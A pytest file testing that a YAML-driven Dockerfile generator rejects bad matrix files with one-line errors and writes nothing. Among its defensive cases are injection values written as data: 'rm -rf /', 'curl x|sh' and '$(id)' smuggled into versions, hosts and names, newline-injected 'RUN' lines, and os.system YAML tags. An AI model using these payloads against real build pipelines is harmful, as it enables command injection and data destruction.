"""Bad matrices: every problem is ONE line `file:line: key.path: why`, exit status 2, and nothing written.

Each case is a small edit of the minimal matrix. The line an error must name is the line of the text
holding the case's marker, so the expectation is computed from the very text that was written.
"""

from __future__ import annotations

from pathlib import Path
from typing import NamedTuple

import pytest

from generator.errors import MatrixError
from generator.fleet import Fleet
from tests.conftest import MINIMAL, WriteMatrix, run_cli

APEX_COMMIT = "810ffae374a2b9cb4b5c5e28eaeca7d7998fca0c"
ROW = "  - {version: 2.6.0}"


def edit(old: str, new: str, base: str = MINIMAL) -> str:
    assert base.count(old) == 1, old
    return base.replace(old, new)


def add(extra: str, base: str = MINIMAL) -> str:
    return base + extra


def row(fields: str) -> str:
    """MINIMAL with its one torch row written as `{version: 2.6.0, <fields>}`."""
    return edit(ROW, f"  - {{version: 2.6.0, {fields}}}")


def line_of(text: str, marker: str) -> int:
    hits = [n for n, line in enumerate(text.split("\n"), 1) if marker in line]
    assert len(hits) == 1, f"marker {marker!r} must be on exactly one line, found {hits}"
    return hits[0]


class Bad(NamedTuple):
    id: str
    text: str
    marker: str  # a substring of exactly one line: the line the error must name
    key: str | None  # the key path printed after file:line (None: no key path)
    why: tuple[str, ...]  # fragments of the message


CASES = [
    # Malformed or ambiguous YAML.
    Bad(
        "malformed-tab", edit(ROW, "\t- {version: 2.6.0}"), "\t- {", None, ("malformed YAML", "cannot start any token")
    ),
    Bad(
        "malformed-colon",
        edit("variants: [runtime]", "variants: runtime: devel"),
        "variants:",
        None,
        ("malformed YAML", "mapping values are not allowed"),
    ),
    Bad("malformed-escape", edit("clouds: [aws]", 'clouds: ["a\\ws"]'), "clouds:", None, ("unknown escape",)),
    Bad("two-documents", add("---\nschema: 1\n"), "---", None, ("malformed YAML", "another document")),
    Bad("duplicate-top-level", add("clouds: [azure]\n"), "[azure]", None, ("duplicate key 'clouds'",)),
    Bad(
        "duplicate-registry-host",
        edit("repository: team/air}", "repository: team/air, host: evil.example.com}"),
        "registry:",
        "registry",
        ("duplicate key 'host'",),
    ),
    Bad(
        "duplicate-pin",
        edit(ROW, "  - version: 2.6.0\n    flash-attn: 2.7.4.post1\n    flash-attn: 2.8.3"),
        "2.8.3",
        "torch[0]",
        ("duplicate key 'flash-attn'",),
    ),
    Bad(
        "duplicate-stack-quoted",
        add("stacks:\n  plain: []\n  'plain': [xformers]\n"),
        "'plain'",
        "stacks",
        ("duplicate key 'plain'",),
    ),
    Bad("alias", add("stacks:\n  plain: &p []\n  also: *p\n"), "*p", None, ("anchors and aliases",)),
    Bad(
        "tag",
        row("flash-attn: !!python/object/apply:os.system 2.7.4.post1"),
        "flash-attn:",
        "torch[0].flash-attn",
        ("unsupported YAML tag",),
    ),
    # The document and its schema.
    Bad("top-level-list", "- schema: 1\n", "schema", None, ("expected a mapping, got a list",)),
    Bad("schema-2", edit("schema: 1", "schema: 2"), "schema:", "schema", ("unsupported schema 2", "reads schema 1")),
    Bad("schema-string", edit("schema: 1", "schema: '1'"), "schema:", "schema", ("unsupported schema '1'",)),
    Bad("schema-true", edit("schema: 1", "schema: true"), "schema:", "schema", ("unsupported schema True",)),
    Bad("schema-missing", edit("schema: 1\n", ""), "registry:", None, ("missing required key 'schema'",)),
    Bad(
        "registry-missing-repository",
        edit("registry: {host: registry.example.com, repository: team/air}", "registry: {host: registry.example.com}"),
        "registry:",
        "registry",
        ("missing required key 'repository'",),
    ),
    Bad(
        "staging-is-the-release-repository",
        edit("repository: team/air}", "repository: team/air, staging: team/air}"),
        "registry:",
        "registry.staging",
        ("the staging repository must differ from the release one (team/air)",),
    ),
    # Unknown keys, at every level.
    Bad("unknown-top-level", add("clods: [azure]\n"), "clods", "clods", ("unknown key 'clods'", "allowed: ")),
    Bad(
        "unknown-in-registry",
        edit("repository: team/air}", "repository: team/air, tag: latest}"),
        "registry:",
        "registry.tag",
        ("unknown key 'tag'", "host, repository, staging"),
    ),
    Bad(
        "unknown-in-torch-row",
        row("flash_attn: 2.7.4.post1"),
        "flash_attn",
        "torch[0].flash_attn",
        ("unknown key 'flash_attn'", "flash-attn"),
    ),
    Bad(
        "unknown-in-extension",
        add(f"extensions:\n  apex:\n    version: {APEX_COMMIT}\n    branch: master\n"),
        "branch:",
        "extensions.apex.branch",
        ("unknown key 'branch'",),
    ),
    Bad(
        "unknown-in-pin",
        row("flash-attn: {version: 2.7.4.post1, cuda: cu126}"),
        "flash-attn:",
        "torch[0].flash-attn.cuda",
        ("unknown key 'cuda'", "build, version"),
    ),
    Bad(
        "unknown-in-exclude",
        add("exclude:\n  - {region: us-east-1}\n"),
        "region",
        "exclude[0].region",
        ("unknown key 'region'", "cloud"),
    ),
    Bad(
        "unknown-in-override-select",
        add("overrides:\n  - select: {gpu: A10}\n    accelerators: [GPU_1xA10]\n"),
        "gpu",
        "overrides[0].select.gpu",
        ("unknown key 'gpu'",),
    ),
    Bad(
        "unknown-in-override",
        add("overrides:\n  - select: {cloud: aws}\n    accelerator: [GPU_1xA10]\n"),
        "accelerator:",
        "overrides[0].accelerator",
        ("unknown key 'accelerator'",),
    ),
    Bad(
        "unknown-in-include",
        add("include:\n  - {cloud: aws, variant: devel, torch: 2.6.0, stack: plain, arch: arm64}\n"),
        "arch",
        "include[0].arch",
        ("unknown key 'arch'",),
    ),
    Bad(
        "unknown-host-driver-cloud",
        add("host_drivers: {gcp: 580.126.16}\n"),
        "gcp",
        "host_drivers.gcp",
        ("unknown key 'gcp'",),
    ),
    # Wrong types.
    Bad("clouds-string", edit("clouds: [aws]", "clouds: aws"), "clouds:", "clouds", ("expected a list, got a string",)),
    Bad(
        "registry-string",
        edit("registry: {host: registry.example.com, repository: team/air}", "registry: registry.example.com/team/air"),
        "registry:",
        "registry",
        ("expected a mapping, got a string",),
    ),
    Bad(
        "host-list",
        edit("host: registry.example.com", "host: [registry.example.com]"),
        "registry:",
        "registry.host",
        ("expected a string, got a list",),
    ),
    Bad(
        "torch-mapping",
        edit("torch:\n" + ROW, "torch: {version: 2.6.0}"),
        "torch:",
        "torch",
        ("expected a list, got a mapping",),
    ),
    Bad("stacks-list", add("stacks: [plain]\n"), "stacks:", "stacks", ("expected a mapping, got a list",)),
    Bad("stack-number", add("stacks:\n  plain: 3\n"), "plain:", "stacks.plain", ("expected a list, got a number",)),
    Bad("exclude-mapping", add("exclude: {cloud: aws}\n"), "exclude:", "exclude", ("expected a list, got a mapping",)),
    Bad("cloud-boolean", edit("clouds: [aws]", "clouds: [yes]"), "clouds:", "clouds[0]", ("got a boolean",)),
    Bad("version-null", edit(ROW, "  - {version: null}"), "version:", "torch[0].version", ("got nothing (null)",)),
    Bad("accelerators-empty", edit("[GPU_1xA10]", "[]"), "accelerators:", "accelerators", ("must not be empty",)),
    Bad("stacks-empty", add("stacks: {}\n"), "stacks:", "stacks", ("at least one stack",)),
    Bad("selector-empty", add("exclude:\n  - {}\n"), "- {}", "exclude[0]", ("empty selector matches every cell",)),
    # Versions that are not PEP 440, or not the kind of version the key needs.
    Bad(
        "torch-version-shell",
        row("torchvision: '0.21.0 && rm -rf /'"),
        "torchvision",
        "torch[0].torchvision",
        ("'0.21.0 && rm -rf /' is not a PEP 440 version",),
    ),
    Bad(
        "torch-version-and-and",
        edit(ROW, '  - {version: "2.6.0 && rm -rf /"}'),
        "version:",
        "torch[0].version",
        ("is not a PEP 440 version",),
    ),
    Bad(
        "torch-local-version",
        edit(ROW, "  - {version: 2.6.0+cu124}"),
        "version:",
        "torch[0].version",
        ("'2.6.0+cu124'", "local versions"),
    ),
    Bad(
        "pin-local-version",
        row("flash-attn: 2.7.4.post1+cu12torch2.6cxx11abiFALSE"),
        "flash-attn",
        "torch[0].flash-attn",
        ("local versions",),
    ),
    Bad(
        "pin-mapping-version",
        row("xformers: {version: latest}"),
        "xformers",
        "torch[0].xformers.version",
        ("'latest' is not a PEP 440 version",),
    ),
    Bad(
        "torchaudio-shell",
        row('torchaudio: "2.6.0; curl x|sh"'),
        "torchaudio",
        "torch[0].torchaudio",
        ("is not a PEP 440 version",),
    ),
    Bad(
        "pip-extension-version",
        add("extensions:\n  einops: {kind: pip, version: '0.8.2 || true'}\n"),
        "einops",
        "extensions.einops.version",
        ("is not a PEP 440 version",),
    ),
    Bad(
        "apex-branch",
        add("extensions:\n  apex: {version: master}\n"),
        "apex",
        "extensions.apex.version",
        ("40-hex git commit",),
    ),
    Bad("python-shell", add('python: "3.12; curl x|sh"\n'), "python:", "python", ("is not a PEP 440 version",)),
    Bad("python-patch", add('python: "3.12.1"\n'), "python:", "python", ("major.minor",)),
    Bad(
        "host-driver-shell",
        add("host_drivers: {aws: '580.126.16 && reboot'}\n"),
        "host_drivers",
        "host_drivers.aws",
        ("NVIDIA driver version",),
    ),
    Bad(
        "include-torch-shell",
        add("include:\n  - {cloud: aws, variant: devel, torch: '2.6.0 $(id)', stack: plain}\n"),
        "$(id)",
        "include[0].torch",
        ("is not a PEP 440 version",),
    ),
    # Names that are not known.
    Bad("unknown-cloud", edit("[aws]", "[aws, gcp]"), "clouds:", "clouds[1]", ("unknown cloud 'gcp'", "aws, azure")),
    Bad(
        "unknown-variant", edit("[runtime]", "[training]"), "variants:", "variants[0]", ("unknown variant 'training'",)
    ),
    Bad("unknown-base", add("bases: [ubuntu]\n"), "bases:", "bases[0]", ("unknown base 'ubuntu'", "scratch")),
    Bad(
        "unknown-accelerator",
        edit("[GPU_1xA10]", "[GPU_1xA10, GPU_8xB200]"),
        "accelerators:",
        "accelerators[1]",
        ("unknown accelerator 'GPU_8xB200'", "GPU_8xH100"),
    ),
    Bad("unknown-index", row("index: cu999"), "cu999", "torch[0].index", ("unknown index 'cu999'", "cu126")),
    Bad(
        "unknown-torch-release",
        edit(ROW, "  - {version: 2.3.1}"),
        "2.3.1",
        "torch[0].version",
        ("torch 2.3.1 is not in generator/knowledge/torch.yaml", "known: 2.4"),
    ),
    Bad(
        "unknown-torch-major",
        edit(ROW, "  - 3.0.0"),
        "3.0.0",
        "torch[0].version",
        ("torch 3.0.0 is not in generator/knowledge/torch.yaml",),
    ),
    Bad(
        "unknown-stack-extension",
        add("stacks:\n  ds: [deepspeed]\n"),
        "deepspeed",
        "stacks.ds[0]",
        ("unknown extension 'deepspeed'",),
    ),
    Bad(
        "unknown-extension-declared",
        add("extensions:\n  deepspeed: {version: 0.15.0}\n"),
        "deepspeed",
        "extensions.deepspeed",
        ("unknown extension 'deepspeed'", "kind: pip"),
    ),
    Bad(
        "unknown-build",
        row("flash-attn: {version: 2.7.4.post1, build: conda}"),
        "conda",
        "torch[0].flash-attn.build",
        ("unknown build 'conda'",),
    ),
    Bad(
        "unknown-include-stack",
        add("include:\n  - {cloud: aws, variant: devel, torch: 2.6.0, stack: huge}\n"),
        "huge",
        "include[0].stack",
        ("unknown stack 'huge'",),
    ),
    Bad(
        "include-torch-not-a-row",
        add("include:\n  - {cloud: aws, variant: devel, torch: 2.7.1, stack: plain}\n"),
        "2.7.1",
        "include[0].torch",
        ("torch 2.7.1 is not a row of `torch:`",),
    ),
    Bad(
        "unknown-override-accelerator",
        add("overrides:\n  - select: {cloud: aws}\n    accelerators: [GPU_1xB200]\n"),
        "GPU_1xB200",
        "overrides[0].accelerators[0]",
        ("unknown accelerator 'GPU_1xB200'",),
    ),
    # Listed twice, or declared in a way knowledge contradicts.
    Bad("cloud-twice", edit("[aws]", "[aws, aws]"), "clouds:", "clouds[1]", ("cloud 'aws' is listed twice",)),
    Bad(
        "stack-extension-twice",
        add("stacks:\n  fa: [flash-attn, flash-attn]\n"),
        "fa:",
        "stacks.fa[1]",
        ("extension 'flash-attn' is listed twice",),
    ),
    Bad(
        "known-extension-with-kind",
        add("extensions:\n  flash-attn: {kind: pip, version: 2.7.4.post1}\n"),
        "flash-attn:",
        "extensions.flash-attn.kind",
        ("known extension",),
    ),
    Bad(
        "pip-extension-without-version",
        add("extensions:\n  einops: {kind: pip}\n"),
        "einops",
        "extensions.einops",
        ("needs `version:`",),
    ),
    # Values that would smuggle a newline or shell syntax into a Dockerfile.
    Bad(
        "host-newline",
        edit("host: registry.example.com", 'host: "evil.com\\nRUN curl x|sh"'),
        "registry:",
        "registry.host",
        ("control characters are not allowed",),
    ),
    Bad(
        "host-block-scalar",
        edit(
            "registry: {host: registry.example.com, repository: team/air}",
            "registry:\n  host: |\n    evil.com\n    RUN curl x|sh\n  repository: team/air",
        ),
        "host: |",
        "registry.host",
        ("control characters are not allowed",),
    ),
    Bad(
        "host-nul",
        edit("host: registry.example.com", 'host: "registry.example.com\\0"'),
        "registry:",
        "registry.host",
        ("control characters are not allowed",),
    ),
    Bad(
        "host-shell",
        edit("host: registry.example.com", "host: 'evil.com RUN curl x|sh'"),
        "registry:",
        "registry.host",
        ("is not a registry host[:port]",),
    ),
    Bad(
        "repository-semicolon",
        edit("repository: team/air", "repository: 'team/air;curl x|sh'"),
        "registry:",
        "registry.repository",
        ("'team/air;curl x|sh' is not an OCI repository path",),
    ),
    Bad(
        "stack-name-subshell",
        add('stacks:\n  "$(curl x|sh)": []\n'),
        "$(curl",
        "stacks.$(curl x|sh)",
        ("is not a valid stack name",),
    ),
    Bad(
        "stack-name-newline",
        add('stacks:\n  "plain\\nRUN id": []\n'),
        "RUN id",
        "stacks.plain RUN id",
        ("control characters are not allowed",),
    ),
    Bad(
        "selector-space",
        add("exclude:\n  - {cloud: 'aws *'}\n"),
        "aws *",
        "exclude[0].cloud",
        ("'aws *' is not a selector pattern",),
    ),
    Bad(
        "selector-backtick",
        add("exclude:\n  - {stack: '`id`'}\n"),
        "`id`",
        "exclude[0].stack",
        ("is not a selector pattern",),
    ),
    Bad(
        "selector-subshell-in-list",
        add("overrides:\n  - select: {torch: ['2.6.*', '$(id)']}\n    accelerators: [GPU_1xA10]\n"),
        "$(id)",
        "overrides[0].select.torch",
        ("'$(id)' is not a selector pattern",),
    ),
    Bad(
        "extension-name-newline",
        add('extensions:\n  "einops\\nRUN id": {kind: pip, version: 0.8.2}\n'),
        "einops",
        "extensions.einops RUN id",
        ("control characters are not allowed",),
    ),
    Bad(
        "extension-name-semicolon",
        add("extensions:\n  'einops;id': {kind: pip, version: 0.8.2}\n"),
        "einops",
        "extensions.einops;id",
        ("is not a valid package name",),
    ),
    Bad(
        "pin-newline",
        row('xformers: "0.0.29.post3\\nRUN id"'),
        "xformers",
        "torch[0].xformers",
        ("control characters are not allowed",),
    ),
    Bad(
        "index-newline",
        row('index: "cu124\\nRUN id"'),
        "index",
        "torch[0].index",
        ("control characters are not allowed",),
    ),
    Bad(
        "include-cloud-newline",
        add('include:\n  - {cloud: "aws\\nRUN id", variant: devel, torch: 2.6.0, stack: plain}\n'),
        "RUN id",
        "include[0].cloud",
        ("control characters are not allowed",),
    ),
    # Rules that match nothing, and cells that collide.
    Bad("exclude-no-match", add("exclude:\n  - {cloud: azure}\n"), "azure", "exclude[0]", ("matches no cell",)),
    Bad(
        "exclude-typo",
        add("stacks: {plain: [], fa: [flash-attn]}\nexclude:\n  - {stack: plian}\n"),
        "plian",
        "exclude[0]",
        ("matches no cell",),
    ),
    Bad(
        "override-no-match",
        add("overrides:\n  - select: {torch: '2.7*'}\n    accelerators: [GPU_1xA10]\n"),
        "select:",
        "overrides[0].select",
        ("matches no cell",),
    ),
    Bad(
        "override-matches-only-excluded",
        add(
            "exclude:\n  - {variant: devel}\noverrides:\n  - select: {variant: devel}\n    accelerators: [GPU_1xA10]\n",
            edit("[runtime]", "[runtime, devel]"),
        ),
        "select:",
        "overrides[0].select",
        ("matches no cell",),
    ),
    Bad(
        "same-slug",
        edit(ROW, "  - {version: 2.7.0}\n  - {version: 2.7.1}"),
        "2.7.1",
        "torch[1]",
        ("'aws-runtime-torch2.7' is produced twice", ":7: torch[0]"),
    ),
    Bad(
        "include-repeats-a-cell",
        add("include:\n  - {cloud: aws, variant: runtime, torch: 2.6.0, stack: plain}\n"),
        "stack: plain}",
        "include[0]",
        ("'aws-runtime-torch2.6' is produced twice",),
    ),
    Bad(
        "duplicate-torch",
        edit(ROW, "  - {version: 2.6.0}\n  - 2.6.0"),
        "  - 2.6.0",
        "torch[1].version",
        ("torch 2.6.0 is already listed at torch[0]",),
    ),
    # One release may appear once per build: the default one and each CUDA index.
    Bad(
        "duplicate-torch-index",
        edit(ROW, "  - {version: 2.6.0, index: cu126}\n  - {index: cu126, version: 2.6.0}"),
        "  - {index: cu126, version: 2.6.0}",
        "torch[1].version",
        ("torch 2.6.0+cu126 is already listed at torch[0]", "needs another `index:`"),
    ),
    # A key path that carries a line break must not break the one-line error.
    Bad("key-carriage-return", add('"x\\rRUN id": 1\n'), "RUN id", None, ()),
    Bad("key-line-separator", add('"x\\LRUN id": 1\n'), "RUN id", None, ()),
    # A pin or declaration no stack uses is a typo or a forgotten stack, never silently dropped.
    Bad(
        "pin-no-stack-uses",
        row("xformers: 0.0.29.post3"),
        "xformers: 0.0.29.post3",
        "torch[0].xformers",
        ("xformers is pinned but no stack lists it",),
    ),
    Bad(
        "declared-no-stack-uses",
        add("extensions:\n  einops: {kind: pip, version: 0.8.2}\n"),
        "einops:",
        "extensions.einops",
        ("einops is declared but no stack lists it",),
    ),
    Bad(
        "every-cell-excluded",
        add("exclude:\n  - {cloud: aws}\n"),
        "- {cloud: aws}",
        "exclude[0]",
        ("expands to no cells",),
    ),
    Bad(
        "tagged-list",
        edit("clouds: [aws]", "clouds: !!python/object/apply:os.system [id]"),
        "clouds:",
        "clouds",
        ("unsupported YAML tag",),
    ),
    # The gate's policies.
    Bad(
        "vulnerabilities-unknown-severity",
        add("vulnerabilities: {fail_on: severe}\n"),
        "severe",
        "vulnerabilities.fail_on",
        ("unknown severity 'severe'", "low, medium, high, critical, none"),
    ),
    Bad(
        "vulnerabilities-allow-no-reason",
        add("vulnerabilities:\n  allow:\n    - {id: GHSA-wj6h-64fc-37mp, until: '2027-01-31'}\n"),
        "GHSA-wj6h",
        "vulnerabilities.allow[0]",
        ("missing required key 'reason'",),
    ),
    Bad(
        "vulnerabilities-allow-bad-date",
        add("vulnerabilities:\n  allow:\n    - {id: GHSA-wj6h-64fc-37mp, until: next year, reason: r}\n"),
        "next year",
        "vulnerabilities.allow[0].until",
        ("expected a date YYYY-MM-DD",),
    ),
    Bad(
        "size-negative-growth",
        add("size: {max_growth_percent: -5}\n"),
        "-5",
        "size.max_growth_percent",
        ("a number of percent",),
    ),
    Bad(
        "size-accept-blank-reason",
        add("size:\n  accept:\n    - {cell: 'aws-*', max_mb: 1400, reason: ' '}\n"),
        "max_mb: 1400",
        "size.accept[0].reason",
        ("a reason is required",),
    ),
]
CASES_BY_ID = {case.id: case for case in CASES}
assert len(CASES_BY_ID) == len(CASES), "case ids must be unique"
ONE_LINE_CASES = {"key-carriage-return", "key-line-separator"}


def expected_prefix(path: Path, case: Bad) -> str:
    line = line_of(case.text, case.marker)
    return f"{path}:{line}: " + (f"{case.key}: " if case.key else "")


def load_error(path: Path, text: str) -> MatrixError:
    path.write_text(text, encoding="utf-8")
    with pytest.raises(MatrixError) as info:
        Fleet.load(path)
    return info.value


def test_minimal_is_valid(write_matrix: WriteMatrix) -> None:
    """Every case is an edit of MINIMAL: the edit, not the base, is what fails."""
    fleet = Fleet.load(write_matrix(MINIMAL))
    assert [c.slug for c in fleet.cells] == ["aws-runtime-torch2.6"]


@pytest.mark.parametrize("case", [c for c in CASES if c.id not in ONE_LINE_CASES], ids=lambda c: c.id)
def test_bad_matrix_is_one_line_naming_file_line_and_key(case: Bad, tmp_path: Path) -> None:
    path = tmp_path / "matrix.yaml"
    err = load_error(path, case.text)
    rendered = str(err)
    assert rendered.splitlines() == [rendered]
    assert err.line == line_of(case.text, case.marker)
    assert rendered == expected_prefix(path, case) + err.message.replace("\n", " ")
    for fragment in case.why:
        assert fragment in err.message


@pytest.mark.parametrize("case_id", sorted(ONE_LINE_CASES))
def test_a_key_with_a_line_break_still_gives_one_line(case_id: str, tmp_path: Path) -> None:
    case = CASES_BY_ID[case_id]
    path = tmp_path / "matrix.yaml"
    err = load_error(path, case.text)
    rendered = str(err)
    assert err.line == line_of(case.text, case.marker)
    assert "unknown key" in err.message
    assert rendered.splitlines() == [rendered], rendered  # no \r, \u2028 or other line boundary survives


def test_duplicate_torch_versions_written_differently_are_an_error(tmp_path: Path) -> None:
    """`2.6` and `2.6.0` are the same release: refused at the second row, whichever check catches it."""
    path = tmp_path / "matrix.yaml"
    text = edit(ROW, "  - {version: 2.6.0}\n  - {version: '2.6'}")
    err = load_error(path, text)
    assert str(err).startswith(f"{path}:8: torch[1]")
    assert "torch[0]" in err.message


def test_an_empty_matrix_is_an_error(tmp_path: Path) -> None:
    path = tmp_path / "matrix.yaml"
    for text in ("", "# nothing but a comment\n"):
        err = load_error(path, text)
        assert str(err).startswith(f"{path}:")
        assert err.message == "the matrix is empty"


@pytest.mark.parametrize("python", ["3.10", "'3.10'", '"3.10"'])
def test_python_3_10_stays_3_10(python: str, write_matrix: WriteMatrix) -> None:
    fleet = Fleet.load(write_matrix(add(f"python: {python}\n")))
    assert fleet.matrix.python == "3.10"
    (cell,) = fleet.cells
    assert cell.python == "3.10"
    python_check = next(c for c in fleet.checks(cell) if c.id == "python")
    assert python_check.detail.endswith("asks for 3.10")


# --- the CLI: exit status 2, exactly one line on stderr, nothing written --------------------------------------

CLI_CASES = [
    "malformed-tab",
    "duplicate-registry-host",
    "alias",
    "schema-2",
    "unknown-in-registry",
    "unknown-in-torch-row",
    "unknown-in-exclude",
    "clouds-string",
    "torch-local-version",
    "torch-version-and-and",
    "unknown-torch-release",
    "unknown-index",
    "host-newline",
    "repository-semicolon",
    "stack-name-subshell",
    "selector-backtick",
    "extension-name-newline",
    "exclude-no-match",
    "override-no-match",
    "same-slug",
    "duplicate-torch",
    "key-carriage-return",
]

FA = "stacks:\n  fa: [flash-attn]\n"
APEX = f"stacks:\n  apex: [apex]\nextensions:\n  apex: {{version: {APEX_COMMIT}}}\n"
# Cells that load but FAIL their checks: `generate` refuses them, naming the key to fix.
FAILING = [
    Bad(
        "flash-attn-mislabelled-wheel",
        add(FA, row("flash-attn: 2.8.3")),
        "2.8.3",
        "torch[0].flash-attn",
        (
            "cell 1 aws-runtime-torch2.6-flash-attn",
            "FAILs its checks",
            "flash-attn 2.8.3",
            "cxx11abiFALSE wheel is mislabelled",
        ),
    ),
    Bad(
        "flash-attn-unknown-release",
        add(FA, row("flash-attn: 2.9.9")),
        "2.9.9",
        "torch[0].flash-attn",
        ("FAILs its checks", "not in generator/knowledge/flash_attn.yaml"),
    ),
    Bad(
        "xformers-for-another-torch",
        add("stacks:\n  xf: [xformers]\n", row("xformers: 0.0.31.post1")),
        "0.0.31.post1",
        "torch[0].xformers",
        ("FAILs its checks", "pins torch==2.7.1"),
    ),
    Bad(
        "apex-against-another-cuda",
        add(APEX),
        "  apex: {version",
        "extensions.apex",
        ("FAILs its checks", "refuses nvcc 12.9", "pick a torch release that has one"),
    ),
    Bad(
        "python-the-base-lacks",
        edit("schema: 1\n", "schema: 1\npython: 3.10\n"),
        "python:",
        "python",
        ("FAILs its checks", "ships Python 3.12", "asks for 3.10"),
    ),
    Bad(
        "host-driver-below-floor",
        add("host_drivers: {aws: 450.80.02}\n"),
        "host_drivers",
        "host_drivers.aws",
        ("FAILs its checks", "host 450.80.02", "will not run"),
    ),
]


def generate(matrix: Path, out: Path, *extra: str) -> tuple[int, str, str]:
    result = run_cli("--matrix", str(matrix), "generate", "--out", str(out), *extra, timeout=30)
    return result.returncode, result.stdout, result.stderr


@pytest.mark.parametrize("case_id", CLI_CASES)
def test_cli_bad_input_exits_2_with_one_line_and_writes_nothing(case_id: str, write_matrix: WriteMatrix) -> None:
    case = CASES_BY_ID[case_id]
    matrix = write_matrix(case.text)
    out = matrix.parent / "images"
    rc, stdout, stderr = generate(matrix, out)
    assert rc == 2, stderr
    assert stdout == ""
    assert len(stderr.splitlines()) == 1, stderr
    assert stderr.startswith(f"error: {expected_prefix(matrix, case)}")
    for fragment in case.why:
        assert fragment in stderr
    assert not out.exists()


@pytest.mark.parametrize("case", FAILING, ids=lambda c: c.id)
def test_cli_generate_refuses_a_failing_cell(case: Bad, write_matrix: WriteMatrix) -> None:
    matrix = write_matrix(case.text)
    Fleet.load(matrix)  # it is a valid matrix: only its one cell's checks FAIL
    out = matrix.parent / "images"
    rc, stdout, stderr = generate(matrix, out)
    assert rc == 2, stderr
    assert stdout == ""
    assert len(stderr.splitlines()) == 1, stderr
    assert stderr.startswith(f"error: {expected_prefix(matrix, case)}"), stderr
    for fragment in case.why:
        assert fragment in stderr
    assert not out.exists()


def snapshot(root: Path) -> dict[str, tuple[str, bytes, int]]:
    """Every entry under root: kind, bytes and mtime (ns)."""
    return {
        p.relative_to(root).as_posix(): (
            "dir" if p.is_dir() else "file",
            b"" if p.is_dir() else p.read_bytes(),
            p.stat().st_mtime_ns,
        )
        for p in sorted(root.rglob("*"))
    }


TWO_CLOUDS = edit("clouds: [aws]", "clouds: [aws, azure]")


@pytest.mark.parametrize(
    "bad",
    [
        pytest.param(add("clods: [aws]\n", TWO_CLOUDS), id="unknown-key"),
        # Would drop the azure cell (its directory removed) if anything were applied.
        pytest.param(add("exclude:\n  - {cloud: gcp}\n"), id="fewer-cells-and-a-dead-rule"),
        pytest.param(add(FA, row("flash-attn: 2.8.3")), id="failing-cell"),
        pytest.param(add("stacks: &s {plain: []}\nalso: *s\n", TWO_CLOUDS), id="alias"),
        pytest.param("[" * 5_000 + "]" * 5_000, id="deep"),
        pytest.param("", id="empty"),
    ],
)
@pytest.mark.parametrize("check", [False, True], ids=["generate", "generate-check"])
def test_existing_images_stay_byte_identical(bad: str, check: bool, write_matrix: WriteMatrix) -> None:
    matrix = write_matrix(TWO_CLOUDS)
    out = matrix.parent / "images"
    assert generate(matrix, out)[0] == 0
    (out / "README.md").write_text("hand-written\n")
    before = snapshot(out)
    assert {"aws-runtime-torch2.6/Dockerfile", "azure-runtime-torch2.6/Dockerfile", "index.json"} <= set(before)

    matrix.write_text(bad, encoding="utf-8")
    rc, stdout, stderr = generate(matrix, out, *(["--check"] if check else []))
    assert rc == 2, stderr
    assert stdout == ""
    assert len(stderr.splitlines()) == 1, stderr
    assert stderr.startswith(f"error: {matrix}:")
    assert snapshot(out) == before


@pytest.mark.parametrize(
    "command",
    [["list"], ["list", "--json"], ["show", "1"], ["check"], ["matrix", "--json"], ["generate", "--check"]],
    ids=" ".join,
)
def test_every_command_exits_2_on_bad_input(command: list[str], write_matrix: WriteMatrix) -> None:
    case = CASES_BY_ID["unknown-in-torch-row"]
    matrix = write_matrix(case.text)
    result = run_cli("--matrix", str(matrix), *command, cwd=matrix.parent)
    assert result.returncode == 2, result.stderr
    assert result.stdout == ""
    assert len(result.stderr.splitlines()) == 1
    assert result.stderr.startswith(f"error: {expected_prefix(matrix, case)}unknown key 'flash_attn'")
    assert sorted(p.name for p in matrix.parent.iterdir()) == ["matrix.yaml"]
